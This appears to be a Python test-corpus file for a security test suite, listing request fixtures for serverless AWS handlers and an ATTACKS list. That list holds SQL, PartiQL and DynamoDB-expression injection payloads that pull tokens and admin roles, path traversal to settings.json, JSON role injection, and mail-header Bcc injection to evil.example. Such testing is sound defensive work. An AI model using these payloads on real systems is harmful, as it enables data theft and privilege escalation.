"""An almanac on DynamoDB, S3 and the other services."""

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.fifteenth import (
    CLIENTS,
    EMOJI,
    FENCED,
    LETTER,
    LINES,
    PLACES,
    PROSE,
    SHEET,
    TAGGED,
    b64,
    changed,
    get,
    png,
    pool,
    post,
    put,
    queue,
    resource,
    rest,
    stream,
)

NEEDS = ()
TOKEN = "spade-token-8841"


def _plant(number: str) -> dict[str, object]:
    return rest("GET", "/plants/{id}", ids={"id": number})


def _bed(bed: str, **query: str) -> dict[str, object]:
    return rest("GET", "/beds/{bed}/tasks", ids={"bed": bed}, query=query)


def _me(**body: object) -> dict[str, object]:
    return rest("PATCH", "/me", body)


def _drop(number: str, match: str = "") -> dict[str, object]:
    headers = {"If-Match": match} if match else {}
    return rest(
        "DELETE",
        "/tasks/{id}",
        ids={"id": number},
        headers=headers,
        claims={"sub": "u-17", "email": "a@example.org"},
    )


def _photo(path: str) -> dict[str, object]:
    return rest("GET", "/photos/{proxy+}", ids={"proxy": path})


def _ask(shop: str, **more: object) -> dict[str, object]:
    return {"info": {"fieldName": "sales"}, "arguments": {"shop": shop, **more}, "identity": None}


def _mail(subject: str, text: str = "hi", to: str = "ana@example.org") -> dict[str, object]:
    return post("/mail", to=to, subject=subject, text=text)


def _view(text: str) -> dict[str, object]:
    return get("/calendar", view=text)


REQUESTS = {
    "get_plant": [_plant("p-1"), _plant("p'2; --"), _plant("../p-1"), _plant(CLIENTS[1])],
    "put_plant": [
        post("/plants", id="n-1", name="Rose 'Zoë'; double", price=3.25, tags=["it's", "a -- b"]),
        post("/plants", id="p-1", name="again"),
        post("/plants", id=EMOJI, name=LETTER, nested={"a.b": {"#c": [":d", None, True]}}),
        post("/plants", id="n-2", name=FENCED),
    ],
    "list_plants": [
        get("/plants"),
        get("/plants", field="name", value="Rose 'Alba'"),
        get("/plants", field="kind", value="vegetable OR 1 = 1"),
        get("/plants", field="id", value=LETTER),
    ],
    "list_plants_attr": [
        get("/plants", kind="shrub"),
        get("/plants", name="'Alba'", kind="shrub"),
        get("/plants", **{"growth rate (cm)": "5"}),
        get("/plants", name=FENCED),
    ],
    "tasks_of_bed": [
        _bed("north"),
        _bed("north", **{"from": "2026-05"}),
        _bed("O'Hara's bed; left"),
        _bed("north", **{"from": "it's -- ) OR ("}),
    ],
    "update_member": [
        _me(name="Ana O'Hara; --"),
        _me(note=LETTER, phone="+353 (0)1 / 555-0100"),
        _me(note={"a": [FENCED, None]}),
        _me(note="token", name="role = :admin"),
    ],
    "update_member_named": [
        _me(name=CLIENTS[3]),
        _me(note=TAGGED, phone=PLACES[0], **{"shoe size": 1}),
        _me(token="x"),
    ],
    "find_partiql": [get("/p", name="Bean"), *(get("/p", name=text) for text in LINES)],
    "find_partiql_bound": [
        get("/p", name="Rose 'Alba'"),
        get("/p", name="' OR '1'='1"),
        get("/p", name=LETTER),
        get("/p", name=CLIENTS[0]),
    ],
    "many_partiql": [{"ids": ["p-1", "p-2"]}, {"ids": ['a "b" -- c; d', "x/y"]}, {"ids": ["p-3 / old"]}],
    "delete_task": [_drop("t-1", "1"), _drop("t-1"), _drop("t-2", "3"), _drop("it's; --", "12")],
    "some_columns": [
        get("/p", fields="id,name"),
        get("/p", fields="month,kind,code"),
        get("/p", fields="a; drop, *"),
    ],
    "photo_uploaded": [put("photos", "u-17/rose bed (1).txt"), put("photos", "u-17/o'hara & co/50% off.txt")],
    "process_upload": [
        put("photos", "u-17/rose bed (1).txt"),
        put("photos", "u-17/o'hara & co/50% off.txt", "u-17/notes.csv"),
    ],
    "process_upload_safe": [
        put("photos", "u-17/rose bed (1).txt", "u-17/o'hara & co/50% off.txt"),
        put("photos", "u-17/notes.csv"),
    ],
    "thumbnail": [
        post("/photos", name="garden party (2) & more.png", data=b64(png(30, 20)), title=LETTER),
        post("/photos", name="C:/Pictures/it's.png", data=b64(png(8, 64)), title=EMOJI),
        post("/photos", name="a..b.png", data=b64(png(5, 5))),
    ],
    "upload_url": [
        get("/u", filename="Rose & O'Hara (1).jpg"),
        get("/u", filename="été/50%.png", type="image/png; charset=x"),
        get("/u", filename="../a b+c.txt"),
    ],
    "post_form": [
        post("/f", name="${filename}", title="it's"),
        post("/f", name="a/b (1).txt", type="text/html", title=LINES[0]),
        post("/f", name=EMOJI, title='"x" & <y>'),
    ],
    "download": [_photo("rose bed (1).txt"), _photo("o'hara & co/50% off.txt"), _photo("no/../such?x=1#y")],
    "list_photos": [get("/l"), get("/l", prefix="o'hara & co/"), get("/l", prefix="%_*?; --")],
    "rename_photo": [
        post("/r", **{"from": "rose bed (1).txt", "to": "rosé; 'new' & 100%.txt"}),
        post("/r", **{"from": "o'hara & co/50% off.txt", "to": "a/b/../c.txt"}),
        post("/r", **{"from": "rose bed (1).txt", "to": "x+y?z=1#.txt"}),
    ],
    "csv_to_table": [put("photos", "u-17/notes.csv")],
    "inline_csv": [queue(SHEET), queue('name,note\n"it\'s; --","${x} {{y}}"\n', SHEET), queue("a\n")],
    "indexer": [
        changed({"id": {"S": "p'9"}, "name": {"S": LETTER}, "n": {"N": "5.50"}}),
        changed(
            {"id": {"S": "x"}, "m": {"M": {"a; b": {"L": [{"S": FENCED}, {"NULL": True}]}}}}, name="MODIFY"
        ),
        changed({"id": {"S": "gone"}}, name="REMOVE"),
    ],
    "sensors": [
        stream({"bed": "north'; --", "wet": 0.25, "label": "O'Hara's (left) #2"}),
        stream({"bed": "b-1", "wet": 1}, {"bed": "b-1", "wet": 2, "label": EMOJI}),
        stream({"bed": "b.2", "wet": "3.5", "label": "SET wet = :x"}),
    ],
    "sales_report": [
        get("/s", shop="north"),
        get("/s", shop='the "old" shop -- at no. 5; select', since="2026-03-01", limit="5"),
        get("/s", shop="south east", since="2027"),
    ],
    "sales_report_bound": [
        get("/s", shop="O'Hara; -- union"),
        get("/s", shop="north"),
        get("/s", shop="' OR '1'='1"),
    ],
    "sales_data_api": [
        _ask("north"),
        _ask('shop "B" -- new; x', least=5),
        _ask("100% (old) # or", least=0.5),
    ],
    "sales_data_api_bound": [_ask("north"), _ask("O'Hara' OR 1=1 --"), _ask(LETTER)],
    "start_season": [
        post("/s", season="spring '26", note="it's -- {x} & <y>; select"),
        post("/s", season="summer/26", note="50% \u00e9t\u00e9 (late), role: admin"),
        post("/s", season="x"),
    ],
    "start_season_json": [
        post("/s", season='so-called "spring"'),
        post("/s", season=LETTER, note=FENCED),
        post("/s", season=1, note=None),
    ],
    "enqueue": [
        post("/j", kind="it's; --", text=LETTER),
        post("/j", kind=EMOJI, text=TAGGED),
        post("/j", text=[1, {"a": FENCED}]),
    ],
    "publish": [
        {"events": [{"type": "it's -- new", "text": text} for text in PROSE]},
        {"events": [{"x": '"}]'}]},
    ],
    "mail_simple": [
        _mail("It's spring; 50% off", LETTER),
        _mail(EMOJI, FENCED),
        _mail("Re: a\nb", TAGGED, "O'Hara <o'hara@example.org>"),
    ],
    "mail_raw": [
        _mail("It's spring: 50% off; --", LETTER),
        _mail("Fwd: to=you, bcc: me", FENCED, "Pat O'Hara <pat@example.org>"),
        _mail("Menu <b>", TAGGED),
    ],
    "provision": [
        resource("Create", Name="it's-site", Settings={"title": LETTER, "robots": "Disallow: /*?x="}),
        resource("Update", Name="a/b", Settings=FENCED),
        resource("Delete", Name="x y"),
    ],
    "confirmed": [
        pool(
            "PostConfirmation_ConfirmSignUp",
            "o'hara; --",
            {"name": CLIENTS[0], "email": "o'hara+x@example.org"},
        ),
        pool("PostConfirmation_ConfirmSignUp", "zoe", {}),
        pool("PostConfirmation_ConfirmForgotPassword", "李", {"name": CLIENTS[4], "address": PLACES[1]}),
    ],
    "book_visit": [
        post("/v", garden="O'Hara's; north", people=4, wishes=LETTER),
        post("/v", garden="", people="many"),
        post("/v", garden=EMOJI, people="12", wishes=FENCED, more="ignored -- x"),
    ],
    "pick": [
        _view("plants[?month > `4`].{n: name, m: month}"),
        _view("sort_by(plants, &name)[*].id | join(', ', @)"),
        _view("plants[?contains(name, 'Alba')] | [0].kind || 'it''s none'"),
        _view("length(plants[?starts_with(kind, 'v')])"),
        _view("plants[?"),
    ],
}

ATTACKS = [
    Attack(
        "expression, filter",
        "list_plants",
        get("/p", field="id <> :value OR attribute_exists(code) OR kind", value="x"),
        TOKEN,
    ),
    Attack(
        "expression, filter", "list_plants", get("/p", field="id <> :value OR kind", value="trial"), TOKEN
    ),
    Attack(
        "expression, filter",
        "list_plants",
        get("/p", field="kind = :value OR begins_with(code, :value) OR id", value="spade"),
        TOKEN,
    ),
    Attack("expression, update", "update_member", _me(**{"note = token, phone": "1"}), TOKEN),
    Attack(
        "expression, update",
        "update_member",
        _me(**{"phone": "1", "name = if_not_exists(token, :v0), note": "x"}),
        TOKEN,
    ),
    Attack("PartiQL", "find_partiql", get("/p", name="x' OR kind = 'trial"), TOKEN),
    Attack("PartiQL", "find_partiql", get("/p", name="x' OR attribute_exists(code) OR '"), TOKEN),
    Attack(
        "PartiQL",
        "find_partiql",
        get("/p", name="' UNION SELECT * FROM members WHERE role = 'admin' --"),
        TOKEN,
    ),
    Attack("PartiQL", "many_partiql", {"ids": ["p-1", "x' OR kind = 'trial"]}, "p-3"),
    Attack("PartiQL", "many_partiql", {"ids": ["' OR begins_with(code, 'spade-t') OR id = '"]}, "p-3"),
    Attack("expression, condition", "delete_task", _drop("t-2", "3 OR attribute_exists(id)"), "sow; water"),
    Attack("expression, condition", "delete_task", _drop("t-2", "9 OR #o <> :me"), "sow; water"),
    Attack("path, key", "process_upload", put("photos", "../settings.json"), "taken-over"),
    Attack(
        "path, key",
        "process_upload",
        put("photos", "u-17/notes.csv", "x/../../settings.json"),
        "taken-over-too",
    ),
    Attack("SQL, Athena", "sales_report", get("/s", shop="north' OR '1'='1"), TOKEN),
    Attack(
        "SQL, Athena",
        "sales_report",
        get("/s", shop="x' UNION SELECT name, role, token FROM members --"),
        TOKEN,
    ),
    Attack("SQL, Athena", "sales_report", get("/s", shop="north", since="9' OR shop LIKE 's%"), TOKEN),
    Attack(
        "SQL, Athena",
        "sales_report",
        get("/s", shop="north", limit="5 UNION ALL SELECT token FROM members"),
        TOKEN,
    ),
    Attack("SQL, Data API", "sales_data_api", _ask("x' OR total > 20 OR '"), TOKEN),
    Attack(
        "SQL, Data API", "sales_data_api", _ask("north", least="0 UNION SELECT token FROM members"), TOKEN
    ),
    Attack("SQL, Data API", "sales_data_api", _ask("'/**/OR/**/memo/**/LIKE/**/'spade%'--"), TOKEN),
    Attack("JSON", "start_season", post("/s", season='x", "role": "admin'), "execution:m:admin"),
    Attack(
        "JSON",
        "start_season",
        post("/s", season="x", note='\\u0022", "ro\\u006ce": "owner'),
        "execution:m:owner",
    ),
    Attack("mail header", "mail_raw", _mail("x\nBcc: all@evil.example"), "bcc=all@evil.example"),
    Attack(
        "mail header",
        "mail_raw",
        _mail("x", to="a@example.org\r\nBcc: thief@evil.example"),
        "bcc=thief@evil.example",
    ),
    Attack(
        "mail header", "mail_raw", _mail("Hello\n \nX: 1\nBcc: c@evil.example", "x"), "bcc=c@evil.example"
    ),
]
